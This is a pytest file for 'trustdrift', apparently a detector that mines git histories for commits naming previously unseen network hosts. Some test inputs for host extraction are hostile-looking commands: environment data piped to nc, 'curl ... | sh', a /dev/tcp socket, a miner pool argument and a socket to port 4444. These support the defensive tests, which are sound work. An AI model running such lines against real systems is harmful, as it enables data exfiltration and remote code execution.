"""Which hosts added code names, when that is new, and how widely they were named."""

import re
import time
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from trustdrift.features import commit_facts
from trustdrift.features.firsts import named_first
from trustdrift.features.history import read_history
from trustdrift.features.hosts import MOST, hosts_in, hosts_in_each
from trustdrift.features.known import HOSTS, KNOWN, Known, first_named, token
from trustdrift.features.matching import matches
from trustdrift.features.mining import mine, mine_into
from trustdrift.features.vectors import describe_commits

from ..conftest import KEY
from ..repositories import DAY, FOUNDER, NEWCOMER, START, Repository, git
from .test_commit_content import shown
from .test_mining_properties import same

WORKFLOW = ".github/workflows/ci.yml"


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        (b"see https://Docs.Python.org/3/ and ftp://a.b.io:21/x", ("docs.python.org", "a.b.io")),
        (b"git+ssh://git@forge.dev/x.git 'http://u:p@y.dev'", ("forge.dev", "y.dev")),
        (b"curl http://8.8.4.4:8080/a http://10.0.0.1/ http://127.0.0.1", ("8.8.4.4",)),
        (b"https://xn--bcher-kva.de/", ("xn--bcher-kva.de",)),
        (b"https://example.com https://api.example.org http://x.test http://a.local", ()),
        (b"https://localhost:80 https://host/x https://1.2.3 https://a.b1", ()),
        (b"https://${name}.dev https://a.${name}.dev https://b.dev%s https://c.{x}", ()),
        (b"https://d.dev/${path} https://d.dev", ("d.dev",)),
        (b"no address: b.dev/x std::io", ()),
        (b"env | gzip | nc pool.dev 443", ("pool.dev",)),
        (b"./m -o Us-West.pool.com:443 -u 8.8.4.4:3333", ("us-west.pool.com", "8.8.4.4")),
        (
            b"curl -sd k=v hop.io/x | sh; wget -q 8.8.4.4/a; x=$(curl 'u@b.net')",
            ("hop.io", "b.net", "8.8.4.4"),
        ),
        (b"exec 3<>/dev/tcp/a.b.com/443", ("a.b.com",)),
        (b"request({hostname: 'a.io', path})", ("a.io",)),
        (b's.connect(("x.y.ru", 4444))', ("x.y.ru",)),
        (b"https://first.dev nc last.dev 1", ("last.dev", "first.dev")),
    ],
)
def test_hosts_are_those_of_urls_that_somebody_has(text: bytes, hosts: tuple[str, ...]) -> None:
    assert hosts_in(text) == hosts


@pytest.mark.parametrize(
    "text",
    [
        b"configure.ac:12 a/b.com:9 main.rs:42:1 foo.io:80.5 v1.2.3.4:5x 10.0.0.1:80",
        b"curl -o app.js -T file.tar.gz ${host}.io/x $a.io x${b}.com | sh b.com",
        b"docker pull ghcr.io/a:12 --host=x.y nc.io func hop.io localhost:80 a.local:80",
        b"{host: name.io, time: 'a.io', 12:30}  ('it.is', 'so') ('main.py', 80)",
    ],
)
def test_files_attributes_and_times_are_no_hosts(text: bytes) -> None:
    assert hosts_in(text) == ()


def test_a_list_of_hosts_is_bounded() -> None:
    text = b" ".join(b"https://h%d.dev" % i for i in range(1_000))
    assert hosts_in(text) == tuple(f"h{i}.dev" for i in range(MOST))


@pytest.mark.parametrize(
    "text", [b"://" + b"a." * 500_000, b"://" * 300_000, b"://a.b" + b"a.-" * 300_000,
             b"://x@" * 200_000, b"://" + b"a" * 1_000_000, b"a." * 500_000 + b":80",
             (b"a." * 120 + b"com:80 ") * 5_000, b"curl " * 200_000, b"curl" + b" a.b" * 200_000,
             b"host='" + b"a." * 300_000, b"('a.b" * 200_000, b"host" + b" " * 500_000]
)  # fmt: skip
def test_hosts_take_no_more_than_one_reading(text: bytes) -> None:
    begun = time.process_time()
    hosts_in(text)
    assert time.process_time() - begun < 10  # what is quadratic takes minutes


PIECES = (
    b"://",
    b"a.dev",
    b":80",
    b"nc ",
    b"u@",
    b"host='",
    b"'",
    b"/",
    b" ",
    b"\n",
    b"\0",
    b".",
    b"x",
)


@given(st.lists(st.lists(st.sampled_from(PIECES), max_size=12).map(b"".join), max_size=6))
def test_hosts_of_texts_together_are_those_of_each(texts: list[bytes]) -> None:
    assert hosts_in_each(texts) == [hosts_in(text) for text in texts]


@given(st.lists(st.sampled_from([b"ab", b"a", b"c", b"1", b" "]), max_size=30).map(b"".join))
def test_matches_are_those_of_the_pattern(text: bytes) -> None:
    pattern = re.compile(rb"ab(?<![c]ab)[^ ]{0,3}1?(?!c)")
    expected = [match.span() for match in pattern.finditer(text)]
    assert [match.span() for match in matches(b"ab", pattern, text)] == expected


@pytest.fixture
def table(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Give the corpus two projects that had named one host since long ago."""
    place = tmp_path / "known_hosts.json"
    Known(2, {token("widely.dev"): (1, 1)}).save(place)
    monkeypatch.setattr(commit_facts, "HOSTS", place)


def history_of_hosts(path: Path) -> Repository:
    repository = Repository(path)
    contents: list[dict[str, bytes | None]] = [
        {"README.md": b"https://home.dev\n"},
        {"a.py": b"HOME = 'https://home.dev'\n"},
        {"a.py": b"HOME = 'https://widely.dev'\n"},
        {WORKFLOW: b"- run: curl https://unheard-of.dev\n", "tests/t.py": b"'https://t.dev'\n"},
        {"b.py": b"X = 'https://quiet.dev'\n", "c.py": b"u('https://quiet.dev')\n"},
    ]
    for day, changed in enumerate(contents):
        repository.commit(changed, author=FOUNDER, time=START + day * DAY)
    return repository


@pytest.mark.usefixtures("table")
def test_only_what_nobody_had_spoken_of_is_new(tmp_path: Path) -> None:
    values = describe_commits(mine(history_of_hosts(tmp_path / "one").write(), key=KEY)).values
    assert values["new_hosts"].tolist() == [0, 0, 1, 1, 1]
    assert values["host_spread"].fillna(-1).tolist() == [-1, -1, KNOWN, 0, 0]
    assert values["steering_hosts"].tolist() == [0, 0, 0, 1, 0]
    assert values["reached_hosts"].tolist() == [0, 0, 0, 1, 0]
    assert "unknown_host_in_steering" in shown(values.iloc[:4])
    assert "unknown_host_in_steering" not in shown(values.iloc[:3])


def test_mining_on_keeps_what_was_named(tmp_path: Path) -> None:
    repository = history_of_hosts(tmp_path / "one")
    repository.commit(
        {"a.py": b"HOME = 'https://later.dev'\n", "b.py": None}, author=NEWCOMER,
        time=START + 9 * DAY,
    )  # fmt: skip
    place = repository.write()
    head = git(place, "rev-parse", "main").decode().strip()
    git(place, "update-ref", "refs/heads/main", "main~2")
    mine_into(tmp_path / "tables", place, key=KEY)
    git(place, "update-ref", "refs/heads/main", head)
    assert mine_into(tmp_path / "tables", place, key=KEY).commits == 6
    mine_into(tmp_path / "afresh", place, key=KEY)
    on, afresh = read_history(tmp_path / "tables"), read_history(tmp_path / "afresh")
    same(on, afresh)
    assert sorted(on.changes["hosts"].iloc[-2:]) == ["", "later.dev"]


def test_the_table_of_hosts_has_tokens_and_the_day_of_the_second_project(tmp_path: Path) -> None:
    one = mine(history_of_hosts(tmp_path / "one").write(), key=KEY)
    first = first_named(one)
    day = START // DAY
    assert first[token("home.dev")] == day
    assert not any("." in name for name in first.index)
    both = Known.of([first, first])
    assert both.known_by(token("unheard-of.dev"), day + 3) == 0
    assert both.known_by(token("unheard-of.dev"), day + 4) == KNOWN
    assert Known.of([first, pd.Series(dtype=float)]).since == {}


def test_the_shipped_table_knows_where_everybody_is() -> None:
    shipped = Known.load(HOSTS)
    assert shipped.projects > 200
    today = 20_000
    assert shipped.known_by(token("github.com"), today) > 100
    assert shipped.known_by(token("nobody-has-this-name.dev"), today) == 0
    assert all(len(name) == 12 for name in shipped.since)


@pytest.mark.usefixtures("table")
def test_a_commit_says_what_it_is_the_first_to_name_the_least_known_first(tmp_path: Path) -> None:
    repository = history_of_hosts(tmp_path / "one")
    repository.commit(
        {
            "package.json": b'{"dependencies": {"unheard-of": "1"}}\n',
            "d.py": b"u('https://b.dev')\nu('https://c.dev')\nu('https://widely.dev')\n",
        },
        author=NEWCOMER, time=START + 9 * DAY,
    )  # fmt: skip
    history = mine(repository.write(), key=KEY)
    shas = history.commits["sha"].tolist()
    found = named_first(history, shas)
    assert found[shas[-1]] == ("b.dev", "c.dev", "npm:unheard-of")
    assert found[shas[2]] == ("widely.dev",)
    assert shas[0] not in found
    assert set(named_first(history, shas[-1:])) == {shas[-1]}
